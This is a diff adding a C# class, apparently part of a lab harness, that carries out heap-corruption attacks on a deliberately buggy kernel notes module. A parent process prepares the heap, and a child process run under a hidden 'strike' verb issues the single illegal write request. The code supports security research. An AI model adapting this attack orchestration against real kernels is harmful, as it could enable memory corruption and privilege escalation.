@@ -1,0 +1,76 @@
+using System.Globalization;
+using Cofferdam.Lab.Interop;
+using Cofferdam.Lab.Programs;
+using Cofferdam.Lab.Victims;
+
+namespace Cofferdam.Lab.Attacks;
+
+/// <summary>
+/// Carries out attacks. Everything that leads up to the illegal store is done, legally, by this process; the one
+/// request that contains it is made by a child process, which may be killed for it, in the session inherited from here.
+/// </summary>
+internal static class Attacker
+{
+    /// <summary>The hidden verb of this program that makes the one request.</summary>
+    public const string StrikeVerb = "strike";
+
+    /// <summary>Aims and carries out one attack; the bystander is sound and empty afterwards.</summary>
+    /// <exception cref="AimFailedException">The heap could not be prepared.</exception>
+    /// <exception cref="ProgramFailedException">The request failed other than by SIGKILL.</exception>
+    public static AttackOutcome Attack(Bug bug, AttackChoices choices, Random random)
+    {
+        using var session = NotesSession.Open();
+        using var bystander = Bystander.Open();
+        try
+        {
+            var aim = new Aimer(session, bystander, random).Take(bug, choices);
+            var killed = Strike(session, aim);
+            return new AttackOutcome(aim, killed, aim.Target.Look(), (int)bystander.Audit().ChangedBytes);
+        }
+        finally
+        {
+            bystander.FreeAll();
+            bystander.Repair();
+        }
+    }
+
+    /// <summary>The child's part.</summary>
+    /// <param name="arguments">Descriptor, feature, and the fields of the request, in decimal.</param>
+    /// <returns>The kernel address of the first byte written.</returns>
+    public static ulong Strike(IReadOnlyList<string> arguments)
+    {
+        var numbers = arguments.Select(text => Int128.Parse(text, CultureInfo.InvariantCulture)).ToArray();
+        // Not disposed: the session is the parent's.
+        var session = NotesSession.Inherited((int)numbers[0]);
+        return session.Edit((CarelessFeature)(byte)numbers[1], new NotesAbi.Edit
+        {
+            Note = (uint)numbers[2],
+            Length = (uint)numbers[3],
+            Offset = (long)numbers[4],
+            Value = (ulong)numbers[5],
+            Address = (ulong)numbers[6],
+        });
+    }
+
+    private static bool Strike(NotesSession session, Aim aim)
+    {
+        var request = aim.Request;
+        string[] arguments =
+        [
+            StrikeVerb, "--", Text(session.Descriptor), Text((byte)aim.Bug.Feature), Text(request.Note),
+            Text(request.Length), Text(request.Offset), Text(request.Value), Text(request.Address),
+        ];
+        session.SetInherited(true);
+        var run = ProgramRun.Of(Environment.ProcessPath!, arguments);
+        session.SetInherited(false);
+        if (run.ExitCode == ProgramRun.KilledExitCode)
+            return true;
+        if (run.ExitCode != 0)
+            throw new ProgramFailedException(Environment.ProcessPath!, arguments, run);
+        if (run.Output.Trim() != Text(aim.Address))
+            throw new InvalidOperationException($"aimed at {aim.Address:x}, but the module wrote at {run.Output}");
+        return false;
+    }
+
+    private static string Text(IFormattable number) => number.ToString(null, CultureInfo.InvariantCulture);
+}
